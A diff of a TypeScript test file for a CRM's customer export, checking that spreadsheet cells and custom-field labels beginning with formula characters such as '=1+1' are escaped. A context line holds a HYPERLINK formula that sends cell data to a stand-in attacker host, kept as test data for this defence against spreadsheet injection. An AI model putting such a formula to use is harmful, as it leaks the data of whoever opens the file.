@@ -32,6 +32,9 @@ const HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Click")';
 async function seed(core: TempCore) {
   const li = await core.call('owners.create', { name: 'Li Wei', email: 'li.wei@mytrade.cn' });
   const wang = await core.call('owners.create', { name: 'Wang Fang', email: null });
+  // Custom fields become columns headed by their labels; a label is the user's text, so it is neutralised too.
+  const volume = await core.call('customFields.create', { label: 'Annual volume', type: 'text' });
+  const score = await core.call('customFields.create', { label: '=1+1', type: 'number' });
   const shenzhen = await core.call('customers.create', {
     name: 'Shenzhen Minghua Trading',
     localName: '深圳明华贸易有限公司',
@@ -43,6 +46,7 @@ async function seed(core: TempCore) {
     ownerId: li.id,
     tags: ['展会', 'VIP'],
     website: 'minghua.cn',
+    customFields: { [volume.id]: '500 柜', [score.id]: 42 },
   });
   await core.call('contacts.create', {
     customerId: shenzhen.id,
@@ -103,6 +107,10 @@ describe('exports.customers', () => {
     expect(evil[6]).toMatch(/^'[\r\n]\+49 40 123$/);
     expect(evil[12]).toBe("'@SUM(A1:A9)");
     expect(customers.some((r) => r[1] === 'Wang Only Imports')).toBe(false);
+    expect(customers[0]!.slice(15)).toEqual(['Annual volume', "'=1+1"]);
+    expect(sz.slice(15)).toEqual(['500 柜', '42']);
+    // Activities are the export of everything's: this one has two sheets.
+    expect(result.activities).toBe(0);
 
     const contacts = rows('联系人');
     expect(contacts[0]).toEqual(['客户编号', '公司名称', '联系人', '职位', '主联系人', '邮箱', '电话', 'WhatsApp', '微信', 'Skype', '其他联系方式', '联系人备注']);
@@ -154,6 +162,10 @@ describe('exports.customers', () => {
     expect(mapped.get('Company name')).toEqual({ kind: 'field', field: 'companyName' });
     expect(mapped.get('Contact name')).toEqual({ kind: 'field', field: 'contactName' });
     expect(mapped.get('Email')).toEqual({ kind: 'field', field: 'email' });
+    // A custom field goes back in as one of the same label.
+    expect(mapped.get('Annual volume')).toEqual({ kind: 'custom', label: 'Annual volume' });
+    expect(shenzhen[0]![col('Annual volume')]).toBe('500 柜');
+    expect(shenzhen[0]![col("'=1+1")]).toBe('42');
   });
 });
 
